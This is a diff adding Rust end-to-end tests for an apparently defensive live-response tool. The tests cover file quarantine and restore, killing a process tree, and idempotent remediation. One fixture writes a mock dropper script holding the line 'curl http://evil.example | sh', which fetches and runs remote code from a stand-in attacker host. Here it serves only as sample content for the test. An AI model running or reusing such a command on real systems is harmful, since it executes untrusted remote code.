@@ -1,0 +1,219 @@
+//! Remediation on the real control plane: a quarantined file comes back from the agent's
+//! journal exactly as it was, a process tree is stopped, and a remediation sent twice (the
+//! operator killed right after dispatching it) acts once.
+
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result, ensure};
+use e2e::fixture::host_root;
+use e2e::lr::{self, Cmd};
+use kube::Client;
+use liveresponse_api::crd::{CommandPhase, SessionPhase};
+
+use crate::Env;
+
+const T: Duration = Duration::from_secs(60);
+
+async fn setup(env: &Env, ns: &str, device: &str, root: &std::path::Path) -> Result<Client> {
+    env.stack.tenant(ns, "")?;
+    env.stack.start_agent(ns, device, root, &[])?;
+    env.stack.wait_device(ns, device, true, T)?;
+    let client = env.cluster.client("analyst-advanced").await?;
+    lr::open_session(&client, ns, "s", device, "analyst-advanced", None).await?;
+    lr::wait_session(&client, ns, "s", SessionPhase::Connected, T).await?;
+    Ok(client)
+}
+
+async fn json(
+    client: &Client,
+    ns: &str,
+    name: &str,
+    verb: &str,
+    args: &[&str],
+) -> Result<serde_json::Value> {
+    let c = Cmd::new("s", verb, args)
+        .json()
+        .run(client, ns, name)
+        .await?;
+    lr::succeeded(&c)?;
+    lr::records(&c)?.into_iter().next().context("no record")
+}
+
+/// remediate file, then undo: the same bytes, mode, owner and modification time; a basic
+/// analyst is refused by admission.
+pub async fn a_quarantined_file_comes_back_exactly(env: &'static Env) -> Result<()> {
+    let (ns, device) = ("lr-remediate", "infected");
+    let root = host_root("remediate")?;
+    std::fs::create_dir_all(root.join("srv"))?;
+    let f = root.join("srv/dropper.sh");
+    std::fs::write(&f, b"#!/bin/sh\ncurl http://evil.example | sh\n")?;
+    // Owner first: a chown clears the set-user-id bit the mode then sets.
+    std::os::unix::fs::chown(&f, Some(65534), Some(65534))?;
+    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o4751))?;
+    let old = std::time::UNIX_EPOCH + Duration::new(1_700_000_000, 987_654_321);
+    std::fs::File::options().write(true).open(&f)?.set_times(
+        std::fs::FileTimes::new()
+            .set_modified(old)
+            .set_accessed(old),
+    )?;
+    let before = std::fs::metadata(&f)?;
+    let client = setup(env, ns, device, &root).await?;
+
+    let basic = env.cluster.client("analyst-basic").await?;
+    let refused = Cmd::new("s", "remediate", &["file", "/srv/dropper.sh"])
+        .create(&basic, ns, "basic-remediate")
+        .await;
+    ensure!(
+        refused.is_err_and(|e| format!("{e:#}").contains("liveresponse-advanced")),
+        "a basic analyst's remediate was not refused by admission"
+    );
+
+    let r = json(&client, ns, "q", "remediate", &["file", "/srv/dropper.sh"]).await?;
+    let id = r["quarantineId"]
+        .as_str()
+        .context("no quarantine id")?
+        .to_string();
+    ensure!(!f.exists(), "the file is still there after remediate");
+    let listed = json(&client, ns, "l", "remediate", &["list"]).await?;
+    ensure!(
+        listed["quarantineId"] == id.as_str(),
+        "remediate list: {listed}"
+    );
+
+    let u = json(&client, ns, "u", "undo", &["file", &id]).await?;
+    ensure!(u["action"] == "restored", "{u}");
+    let after = std::fs::metadata(&f)?;
+    ensure!(
+        std::fs::read(&f)? == b"#!/bin/sh\ncurl http://evil.example | sh\n",
+        "other bytes came back"
+    );
+    ensure!(
+        after.mode() == before.mode()
+            && (after.uid(), after.gid()) == (before.uid(), before.gid())
+            && (after.mtime(), after.mtime_nsec()) == (before.mtime(), before.mtime_nsec()),
+        "mode, owner or mtime differ: {:o} {}:{} {}.{} (was {:o} {}:{} {}.{})",
+        after.mode(),
+        after.uid(),
+        after.gid(),
+        after.mtime(),
+        after.mtime_nsec(),
+        before.mode(),
+        before.uid(),
+        before.gid(),
+        before.mtime(),
+        before.mtime_nsec()
+    );
+    eprintln!(
+        "remediate: {id} quarantined and restored with mode {:o}, owner 65534, mtime kept",
+        after.mode() & 0o7777
+    );
+    env.stack.kill_agent(ns, device);
+    let _ = std::fs::remove_dir_all(&root);
+    Ok(())
+}
+
+/// remediate process stops the tree the test started (its root and two children), and
+/// -quarantine moves the root's executable into the journal.
+pub async fn a_process_tree_is_stopped_and_its_executable_quarantined(
+    env: &'static Env,
+) -> Result<()> {
+    let (ns, device) = ("lr-remediate-proc", "miner");
+    let root = host_root("remediate-proc")?;
+    std::fs::create_dir_all(root.join("opt"))?;
+    let exe = root.join("opt/miner");
+    // A shell under another name: the tree's root, with two sleeps below it.
+    std::fs::copy("/bin/sh", &exe)?;
+    let client = setup(env, ns, device, &root).await?;
+    let mut tree = std::process::Command::new(&exe)
+        .args(["-c", "sleep 30051 & sleep 30052 & wait"])
+        .spawn()?;
+    let sleeps = || {
+        std::fs::read_dir("/proc")
+            .into_iter()
+            .flatten()
+            .filter_map(|e| e.ok())
+            .filter_map(|e| std::fs::read_to_string(e.path().join("cmdline")).ok())
+            .filter(|c| c == "sleep\x0030051\x00" || c == "sleep\x0030052\x00")
+            .count()
+    };
+    let t = Instant::now();
+    while sleeps() < 2 {
+        ensure!(t.elapsed() < T, "the tree did not start");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let root_pid = tree.id().to_string();
+    let r = json(
+        &client,
+        ns,
+        "kill",
+        "remediate",
+        &["process", &root_pid, "-quarantine"],
+    )
+    .await?;
+    ensure!(r["action"] == "killed", "{r}");
+    let _ = tree.wait();
+    let t = Instant::now();
+    while sleeps() > 0 {
+        ensure!(t.elapsed() < T, "processes of the tree still run");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    ensure!(!exe.exists(), "-quarantine left the executable in place");
+    let c = lr::wait_final(&client, ns, "kill", T).await?;
+    let warnings = c
+        .status
+        .and_then(|s| s.output)
+        .map(|o| o.warnings)
+        .unwrap_or_default();
+    ensure!(
+        warnings.iter().any(|w| w.contains("stopped")),
+        "no note of what was stopped: {warnings:?}"
+    );
+    env.stack.kill_agent(ns, device);
+    let _ = std::fs::remove_dir_all(&root);
+    Ok(())
+}
+
+/// The operator dies right after sending a remediation; its successor sends it again, and
+/// the agent's journal still holds one entry for it.
+pub async fn a_remediation_sent_twice_acts_once(env: &'static Env) -> Result<()> {
+    let (ns, device) = ("lr-remediate-once", "replayed");
+    let root = host_root("remediate-once")?;
+    std::fs::create_dir_all(root.join("tmp"))?;
+    for i in 0..3 {
+        std::fs::write(
+            root.join(format!("tmp/implant-{i}")),
+            format!("implant {i}\n"),
+        )?;
+    }
+    let client = setup(env, ns, device, &root).await?;
+    Cmd::new("s", "remediate", &["file", "/tmp/implant-1"])
+        .create(&client, ns, "once")
+        .await?;
+    lr::wait_phase(&client, ns, "once", T, |p| {
+        p != CommandPhase::Pending && p != CommandPhase::Queued
+    })
+    .await?;
+    env.stack.kill_operator();
+    env.stack.start_operator()?;
+    let c = lr::wait_final(&client, ns, "once", Duration::from_secs(120)).await?;
+    lr::succeeded(&c)?;
+    let entries: Vec<_> =
+        std::fs::read_dir(env.stack.agent_dir(ns, device).join("journal/entries"))?
+            .filter_map(|e| e.ok())
+            .filter(|e| e.path().extension().is_some_and(|x| x == "json"))
+            .collect();
+    ensure!(
+        entries.len() == 1,
+        "the journal has {} entries",
+        entries.len()
+    );
+    ensure!(!root.join("tmp/implant-1").exists(), "not quarantined");
+    ensure!(
+        root.join("tmp/implant-0").exists() && root.join("tmp/implant-2").exists(),
+        "others touched"
+    );
+    env.stack.kill_agent(ns, device);
+    let _ = std::fs::remove_dir_all(&root);
+    Ok(())
+}
